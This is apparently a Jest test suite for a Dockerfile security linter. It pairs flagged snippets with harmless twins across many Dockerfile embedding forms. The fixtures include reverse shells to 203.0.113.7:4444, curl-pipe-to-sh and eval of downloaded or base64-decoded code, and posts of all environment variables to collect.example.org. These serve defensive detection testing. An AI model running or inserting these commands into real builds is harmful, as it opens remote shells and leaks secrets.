import { describe, expect, it } from '@jest/globals';
import type { Rule } from '../../../src/rules/define-rule.ts';
import unverified from '../../../src/rules/supply-chain/downloads/download-unverified.ts';
import obfuscated from '../../../src/rules/supply-chain/downloads/obfuscated-exec.ts';
import remoteScript from '../../../src/rules/supply-chain/downloads/remote-script-exec.ts';
import tlsOff from '../../../src/rules/supply-chain/downloads/tls-verify-disabled.ts';
import { checkText } from '../../support/example.ts';

const A = 'https://get.example.com/a';

/** The ways in which a Dockerfile gives code to an interpreter. */
const FORMS: readonly (readonly [form: string, lines: (program: string, code: string) => string])[] = [
  [
    'a word',
    (program, code) =>
      `RUN <<'S'\n${program} ${program === 'python3' ? '-c' : program === 'php' ? '-r' : '-e'} '${code}'\nS`,
  ],
  ['a here-document of RUN', (program, code) => `RUN <<'E' ${program}\n${code}\nE`],
  ['a here-document behind the program', (program, code) => `RUN ${program} <<'E'\n${code}\nE`],
  ['a here-document with words', (program, code) => `RUN ${program} - a <<'E'\n${code}\nE`],
  ['a here-document in a script', (program, code) => `RUN <<'S'\nset -e\n${program} - <<'E'\n${code}\nE\nS`],
  ['a first line', (program, code) => `RUN <<'E'\n#!/usr/bin/env ${program}\n${code}\nE`],
  ['a file of COPY', (program, code) => `COPY <<'E' /x\n${code}\nE\nRUN ${program} /x`],
  ['a file at the start', (program, code) => `COPY <<'E' /x\n${code}\nE\nCMD ["${program}", "/x"]`],
  ['a file of a command', (program, code) => `RUN <<'S'\ncat > /x <<'E'\n${code}\nE\n${program} /x\nS`],
  [
    'a program',
    (program, code) =>
      `COPY --chmod=755 <<'E' /usr/local/bin/x\n#!/usr/bin/env ${program}\n${code}\nE\nRUN /usr/local/bin/x`,
  ],
  [
    'an entry point',
    (program, code) => `COPY --chmod=755 <<'E' /x\n#!/usr/bin/env ${program}\n${code}\nE\nENTRYPOINT ["/x"]`,
  ],
];

const NODE_SHELL = 'const n = require("net");\nconst p = require("child_process").spawn("/bin/sh");';
const ENCODED = 'cHJpbnQoMSk=';

/** Each with a harmless twin. */
const CODES: readonly (readonly [rule: Rule, program: string, code: string, harmless: string])[] = [
  [
    tlsOff,
    'python3',
    `import requests\nr = requests.get("${A}", verify=False)`,
    `import requests\n# verify=False\nr = requests.get("${A}", verify=True)`,
  ],
  [
    tlsOff,
    'python3',
    `import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.CERT_NONE\nopen_with("${A}", c)`,
    `import ssl\nc = ssl.create_default_context()\nassert c.verify_mode != ssl.CERT_NONE\nopen_with("${A}", c)`,
  ],
  [
    tlsOff,
    'python3',
    `import ssl\nssl._create_default_https_context = ssl._create_unverified_context\nopen_it("${A}")`,
    `import requests\nrequests.get("https://localhost:8443/health", verify=False)`,
  ],
  [
    tlsOff,
    'node',
    `process.env.NODE_TLS_REJECT_UNAUTHORIZED="0";\nrequire("https").get("${A}")`,
    `process.env.NODE_TLS_REJECT_UNAUTHORIZED="1";\nrequire("https").get("${A}")`,
  ],
  [
    tlsOff,
    'node',
    `fetchIt("${A}", {\n  rejectUnauthorized: false,\n});`,
    `fetchIt("${A}", {\n  rejectUnauthorized: true,\n});`,
  ],
  [
    tlsOff,
    'ruby',
    `h = Net::HTTP.new("get.example.com")\nh.verify_mode = OpenSSL::SSL::VERIFY_NONE`,
    `h = Net::HTTP.new("get.example.com")\nh.verify_mode = OpenSSL::SSL::VERIFY_PEER`,
  ],
  [
    remoteScript,
    'python3',
    `import urllib.request\nexec(urllib.request.urlopen("${A}").read())`,
    `import urllib.request\nprint(urllib.request.urlopen("${A}").read())`,
  ],
  [
    remoteScript,
    'python3',
    `import subprocess\ncmd = "curl -s ${A}"\nsubprocess.run(f"{cmd} | sh", shell=True)`,
    `import subprocess\ncmd = "curl -s ${A}"\nsubprocess.run(f"{cmd} | jq .", shell=True)`,
  ],
  [
    remoteScript,
    'node',
    `const u = "${A}";\nrequire("child_process").execSync(\`curl -s \${u} | sh\`);`,
    `const u = "${A}";\nrequire("child_process").execSync(\`curl -s \${u} | jq .\`);`,
  ],
  [
    remoteScript,
    'ruby',
    `cmd = "curl -s ${A}"\nsystem("#{cmd} | sh")`,
    `cmd = "curl -s ${A}"\nsystem("#{cmd} | jq .")`,
  ],
  [
    remoteScript,
    'node',
    `fetch("${A}")\n  .then((r) => r.text())\n  .then((t) => eval(t));`,
    `fetch("${A}")\n  .then((r) => r.text())\n  .then((t) => console.log(t));`,
  ],
  [
    unverified,
    'python3',
    `import urllib.request, os\np = "/tmp/i.sh"\nurllib.request.urlretrieve("${A}", p)\nos.chmod(p, 0o755)\nos.system(p)`,
    `import urllib.request, os\np = "/tmp/i.json"\nurllib.request.urlretrieve("${A}", p)\nos.chmod(p, 0o644)\nos.system("ls")`,
  ],
  [
    unverified,
    'python3',
    `import urllib.request, subprocess\nurllib.request.urlretrieve("${A}", "/tmp/i.sh")\nsubprocess.run(["/bin/sh", "/tmp/i.sh"])`,
    `import requests, subprocess\nr = requests.get("${A}").json()\ncmd = ["pip", "install", "a==1.0"]\nsubprocess.run(cmd)`,
  ],
  [
    obfuscated,
    'python3',
    `import socket,os,pty\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn("/bin/sh")`,
    `import socket\ns = socket.socket()\ns.connect(("db.example.com", 5432))\ns.close()`,
  ],
  [
    obfuscated,
    'node',
    `${NODE_SHELL}\nconst c = new n.Socket();\nc.connect(4444, "203.0.113.7", () => { c.pipe(p.stdin); p.stdout.pipe(c); });`,
    `${NODE_SHELL}\np.stdout.pipe(process.stdout);`,
  ],
  [
    obfuscated,
    'python3',
    `import base64\nexec(base64.b64decode("${ENCODED}"))`,
    `import base64\nprint(base64.b64decode("${ENCODED}"))\nexec(open("/a.py").read())`,
  ],
  [
    obfuscated,
    'python3',
    `import base64\ncode = base64.b64decode("${ENCODED}")\nexec(code)`,
    `import base64\ncode = base64.b64decode("${ENCODED}")\nopen("/a", "wb").write(code)`,
  ],
  [
    obfuscated,
    'node',
    `eval(Buffer.from("${ENCODED}", "base64").toString())`,
    `const m = /a/.exec("b");\nconst t = Buffer.from("${ENCODED}", "base64");`,
  ],
  [obfuscated, 'ruby', `eval "${ENCODED}".unpack1("m")`, `puts "${ENCODED}".unpack1("m")`],
  [
    obfuscated,
    'perl',
    `use MIME::Base64;\neval decode_base64("${ENCODED}");`,
    `use MIME::Base64;\nprint decode_base64("${ENCODED}");`,
  ],
  [obfuscated, 'php', `<?php\neval(base64_decode("${ENCODED}"));`, `<?php\necho base64_decode("${ENCODED}");`],
  [
    obfuscated,
    'python3',
    'import os, requests\nrequests.post("https://collect.example.org", json=dict(os.environ))',
    'import os, requests, subprocess\nrequests.post("https://collect.example.org", json={"v": os.environ["V"]})\nsubprocess.run(["a"], env=dict(os.environ))',
  ],
  [
    obfuscated,
    'python3',
    'import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(\n  "https://collect.example.org", data)',
    'import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(\n  "http://localhost:80", data)',
  ],
  [
    obfuscated,
    'node',
    'fetch("https://collect.example.org", { method: "POST", body: JSON.stringify(process.env) })',
    'fetch("https://collect.example.org", { method: "POST", body: process.env.VERSION })',
  ],
];

const found = (rule: Rule, lines: string) =>
  checkText(rule, 'Dockerfile', `FROM debian:12\n${lines}\nUSER 1000\n`).findings;

describe.each(FORMS)('code of another language in %s', (form, lines) => {
  it.each(CODES)('%#', (rule, program, code) => {
    expect([form, found(rule, lines(program, code)).map(({ ruleId }) => ruleId)]).toEqual([form, [rule.id]]);
  });

  it.each(CODES)('harmless: %#', (_, program, _code, harmless) => {
    const rules = [tlsOff, remoteScript, unverified, obfuscated];
    expect(rules.flatMap((rule) => found(rule, lines(program, harmless)).map(({ message }) => message))).toEqual([]);
  });
});
